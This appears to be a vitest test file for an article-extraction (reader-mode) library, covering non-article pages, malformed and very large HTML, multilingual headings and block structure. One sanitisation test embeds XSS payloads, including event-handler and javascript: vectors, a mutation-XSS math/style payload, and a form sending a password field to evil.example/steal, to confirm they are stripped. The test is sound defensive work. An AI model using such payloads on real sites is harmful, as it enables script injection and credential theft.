import { describe, expect, it } from 'vitest';
import { parseHtml } from '../../cli/parse-html';
import { extractArticle } from '../extract';
import type { Article, ExtractResult } from '../model';
import { englishMessages } from '../../cli/english-messages';
import { noArticleReason } from '../../components/i18n/extraction-words';
import { extractHtml } from '../../tests/support/dom';

const PARAGRAPH =
  'The bridge will close for repairs on Monday, and the city expects the work to last at least six weeks, officials said in a statement.';

function articleOf(result: ExtractResult): Article {
  if (result.kind !== 'article') throw new Error(`expected an article, got: ${result.code}`);
  return result;
}

function page(body: string, head = '<title>Bridge closure</title>', htmlAttributes = 'lang="en"'): string {
  return `<!DOCTYPE html><html ${htmlAttributes}><head>${head}</head><body>${body}</body></html>`;
}

const story = (paragraphs = 6) => `<article><h1>Bridge closure</h1>${`<p>${PARAGRAPH}</p>`.repeat(paragraphs)}</article>`;

describe('pages that are not articles', () => {
  it.each([
    ['an empty document', '', 'empty'],
    ['a document with an empty body', page(''), 'empty'],
    ['an app shell', page('<div id="root"></div><script>window.render("root")</script><noscript>Enable JavaScript</noscript>'), 'empty'],
    [
      'a page whose story is hidden until its scripts run',
      page(`<p>Loading, please wait.</p><div hidden><p>${PARAGRAPH}</p><p>${PARAGRAPH}</p><p>${PARAGRAPH}</p></div>`),
      'too-short',
    ],
    [
      'a search results page',
      page(`<h1>Search results for "bridge"</h1><ul>${Array.from({ length: 40 }, (_, i) => `<li><a href="/r/${i}">Bridge repair schedule update number ${i} for the downtown core</a></li>`).join('')}</ul>`),
      'link-list',
    ],
  ])('explains %s instead of throwing', (_name, html, code) => {
    const result = extractHtml(html);
    expect(result.kind).toBe('no-article');
    if (result.kind === 'no-article') {
      expect(result.code).toBe(code);
      expect(noArticleReason(englishMessages, result)).toMatch(/^[A-Z].{20,}\.$/);
    }
  });

  it('explains a document that is not HTML', () => {
    const result = extractArticle(new DOMParserLike().xml('<rss><channel><title>Feed</title></channel></rss>'), {});
    expect(result).toMatchObject({ kind: 'no-article', code: 'not-html' });
  });

  it('turns an unexpected failure into a reason, never an exception', () => {
    const body = { get firstChild(): never { throw new Error('boom'); } };
    const broken = { documentElement: { tagName: 'HTML' }, body, cloneNode: () => { throw new Error('boom'); } };
    const result = extractArticle(broken as unknown as Document, { window: {} as never });
    expect(result).toMatchObject({ kind: 'no-article', code: 'error' });
    if (result.kind === 'no-article') expect(noArticleReason(englishMessages, result)).toMatch(/^Lector could not read this page \(.+\)\.$/);
  });
});

describe('hard input', () => {
  it('extracts malformed HTML (unclosed tags, stray end tags, bad nesting)', () => {
    const html = `<html><head><title>Bridge closure</title><body><div><p>${PARAGRAPH}<p>${PARAGRAPH}</b></i><div><p>${PARAGRAPH}<table><p>${PARAGRAPH}</div></span><p>${PARAGRAPH}<p>${PARAGRAPH}`;
    const article = articleOf(extractHtml(html));
    expect(article.text).toContain('The bridge will close for repairs on Monday');
  });

  it('extracts a 5 MB page', { timeout: 120_000 }, () => {
    const filler = `<div class="sidebar">${'<a href="/x">Unrelated link text</a> '.repeat(70_000)}</div>`;
    const html = page(`${filler}${story(20)}${filler}`);
    expect(html.length).toBeGreaterThan(5_000_000);
    const article = articleOf(extractHtml(html));
    expect(article.wordCount).toBeGreaterThan(400);
  });

  it('does not stop on a stylesheet jsdom cannot parse', () => {
    const html = page(story(), '<title>Bridge closure</title><style>@media (min-width: {{{ { color: red; } @@@ }</style>');
    expect(articleOf(extractHtml(html)).title).toBe('Bridge closure');
  });

  it('shows a short page whole when those few words are all the page has', () => {
    const article = articleOf(extractHtml(page('<p>Closed today. Back tomorrow at nine.</p>')));
    expect(article.text).toBe('Closed today. Back tomorrow at nine.');
  });

  it('accepts a document without a URL or language', () => {
    const parsed = parseHtml(`<html><body>${story()}</body></html>`);
    const article = articleOf(extractArticle(parsed.document, { window: parsed.window }));
    expect(article.url).toBeNull();
    expect(article.lang).toBeNull();
    parsed.close();
  });
});

describe('hostile content comes out inert', () => {
  const vectors = [
    '<script>window.pwned = 1</script>',
    '<img src="x" onerror="window.pwned = 1" alt="">',
    '<a href="javascript:window.pwned=1">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click2</a>',
    '<a href="  javascript:alert(1)">click3</a>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    '<svg onload="window.pwned=1"><circle r="1"/></svg>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example/steal"><input name="pw"><button formaction="https://evil.example">Go</button></form>',
    '<p style="position:fixed;inset:0;background:red" onclick="window.pwned=1">Styled paragraph with a handler in it.</p>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<a href="https://example.com/ok" target="_self">a normal link</a>',
    '<details open ontoggle="window.pwned=1"><summary>More</summary>Hidden</details>',
  ].join('');
  const article = articleOf(extractHtml(page(`<article><h1>Bridge closure</h1><p>${PARAGRAPH}</p>${vectors}<p>${PARAGRAPH}</p><p>${PARAGRAPH}</p></article>`)));

  it('keeps no script, handler, javascript: URL, frame, object, form or inline style', () => {
    expect(article.html).not.toMatch(/<script|<iframe|<object|<embed|<form|<input|<button|<style/i);
    expect(article.html).not.toMatch(/\son\w+\s*=/i);
    expect(article.html).not.toMatch(/javascript:/i);
    expect(article.html).not.toMatch(/\sstyle\s*=|srcdoc|formaction/i);
  });

  it('makes every link open safely', () => {
    const parsed = parseHtml(`<div>${article.html}</div>`);
    const links = [...parsed.document.querySelectorAll('a[href]')];
    expect(links.length).toBeGreaterThan(0);
    for (const link of links) expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    parsed.close();
  });
});

describe('structure', () => {
  it('keeps the page’s heading levels (Readability turns h1 into h2)', () => {
    const body = `<article><h1>Bridge closure</h1><p>${PARAGRAPH}</p><h1>Why the repairs matter</h1><p>${PARAGRAPH}</p><h3>Traffic detours</h3><p>${PARAGRAPH}</p><h4>Buses</h4><p>${PARAGRAPH}</p><h2>What comes next</h2><p>${PARAGRAPH}</p></article>`;
    const article = articleOf(extractHtml(page(body)));
    expect(article.headings.map((h) => [h.level, h.text])).toEqual([
      [1, 'Why the repairs matter'],
      [3, 'Traffic detours'],
      [4, 'Buses'],
      [2, 'What comes next'],
    ]);
    for (const heading of article.headings) {
      expect(article.html).toContain(`<h${heading.level} id="${heading.id}" data-lector-block="${heading.block}">`);
      expect(article.blocks[heading.block]).toMatchObject({ kind: 'heading', level: heading.level, text: heading.text });
    }
  });

  it('keeps a section heading with a "negative" class name when prose follows it, drops a widget title', () => {
    const body = `<article><h1>Bridge closure</h1><p>${PARAGRAPH}</p><h2 class="section-meta">The cost of waiting</h2><p>${PARAGRAPH}</p><p>${PARAGRAPH}</p><h2 class="widget-title">Popular</h2><ul><li><a href="/a">One story</a></li><li><a href="/b">Another story</a></li></ul><p>${PARAGRAPH}</p></article>`;
    const article = articleOf(extractHtml(page(body)));
    expect(article.headings.map((h) => h.text)).toContain('The cost of waiting');
    expect(article.text).not.toMatch(/^Popular$/m);
  });

  it('lays out right-to-left articles right to left', () => {
    const arabic = 'أعلنت البلدية يوم الاثنين أن الجسر سيغلق للإصلاح لمدة ستة أسابيع على الأقل، وفقا لبيان رسمي صدر صباح اليوم.';
    const article = articleOf(extractHtml(page(`<article><h1>الجسر</h1>${`<p>${arabic}</p>`.repeat(6)}</article>`, '<title>الجسر</title>', 'lang="ar"')));
    expect(article.dir).toBe('rtl');
    expect(article.lang).toBe('ar');
    expect(article.wordCount).toBeGreaterThan(80);
  });

  // Readability's own check splits words on /\W+/ and so never matched a headline outside A–Z.
  it.each([
    ['Hebrew', 'he', 'הספרייה העירונית פותחת חדר שקט לקוראים', 'איך ייראה החדר', 'עיתון העמק'],
    ['Russian', 'ru', 'Городская библиотека открывает тихий зал', 'Как будет устроен зал', 'Вечерние новости'],
    ['Greek', 'el', 'Η δημοτική βιβλιοθήκη ανοίγει ήσυχη αίθουσα', 'Πώς θα είναι η αίθουσα', 'Νέα της Κοιλάδας'],
    ['Hindi', 'hi', 'नगर पुस्तकालय में पाठकों के लिए शांत कक्ष खुलेगा', 'कक्ष कैसा होगा', 'घाटी समाचार'],
    ['English', 'en', 'The city library opens a quiet room', 'What the room will be like', 'Valley News'],
  ])('does not repeat the headline that is the title (%s), and keeps the section headings', (_name, lang, headline, section, site) => {
    const prose = `<p>${PARAGRAPH}</p>`.repeat(3);
    const html = page(`<article><h1>${headline}</h1>${prose}<h2>${section}</h2>${prose}</article>`, `<title>${headline} | ${site}</title>`, `lang="${lang}"`);
    const article = articleOf(extractHtml(html));
    expect(article.title).toBe(headline);
    expect(article.blocks.filter((block) => block.text === headline)).toEqual([]);
    expect(article.headings.map((heading) => heading.text)).toEqual([section]);
  });

  it('keeps a Hindi section heading that only shares letters with the title (marks stay inside their words)', () => {
    const prose = `<p>${PARAGRAPH}</p>`.repeat(3);
    const title = 'लोकसभा चुनाव के नतीजे घोषित, भाजपा सबसे बड़ी पार्टी';
    const html = page(`<div>${prose}<h2>सबसे बड़ी चुनौती</h2>${prose}</div>`, `<title>${title}</title>`, 'lang="hi"');
    expect(articleOf(extractHtml(html)).headings.map((heading) => heading.text)).toEqual(['सबसे बड़ी चुनौती']);
  });

  it('marks blocks so that they survive the article being parsed again (a <p> a script filled with a <div>)', () => {
    const parsed = parseHtml(page(`<article><h1>Bridge closure</h1><p id="odd"></p>${`<p>${PARAGRAPH}</p>`.repeat(4)}</article>`), 'https://news.example/story');
    // A parser never nests a <div> in a <p>; scripts on real pages do, and the clone keeps it.
    const doc = parsed.document;
    const inner = doc.createElement('div');
    inner.textContent = 'The detour adds about ten minutes to the drive for most commuters heading downtown.';
    const span = doc.createElement('span');
    span.append(inner);
    doc.getElementById('odd')!.append(span, ' Buses will keep their usual stops along the way.');
    const article = articleOf(extractArticle(doc, { url: 'https://news.example/story', window: parsed.window }));
    parsed.close();
    expect(article.text).toContain('The detour adds about ten minutes');

    // What the reader and the CLI do: parse the HTML again, then find each block by its marker.
    const again = parseHtml(`<!DOCTYPE html><html><body><div id="r">${article.html}</div></body></html>`);
    for (const block of article.blocks) {
      const element = again.document.querySelector(`[data-lector-block="${block.index}"]`);
      expect((element?.textContent ?? '').replace(/\s+/g, ' ').trim()).toBe(block.text);
    }
    again.close();
  });

  it('reads list items, quotes and code as their own kinds of block', () => {
    const body = `<article><h1>Bridge closure</h1><p>${PARAGRAPH}</p><ul><li>First, the deck is replaced over three weeks of work.</li><li>Then the rails are painted.</li></ul><blockquote><p>We have no choice but to close it now, the engineer said.</p></blockquote><pre><code>closure.start = "Monday"</code></pre><p>${PARAGRAPH}</p><p>${PARAGRAPH}</p></article>`;
    const kinds = articleOf(extractHtml(page(body))).blocks.map((b) => b.kind);
    expect(kinds).toEqual(expect.arrayContaining(['list-item', 'quote', 'code', 'paragraph']));
  });
});

/** A minimal XML document, standing in for a feed or SVG file opened in a tab. */
class DOMParserLike {
  xml(source: string): Document {
    const parsed = parseHtml('<html></html>');
    const doc = new parsed.window.DOMParser().parseFromString(source, 'application/xml');
    return doc;
  }
}
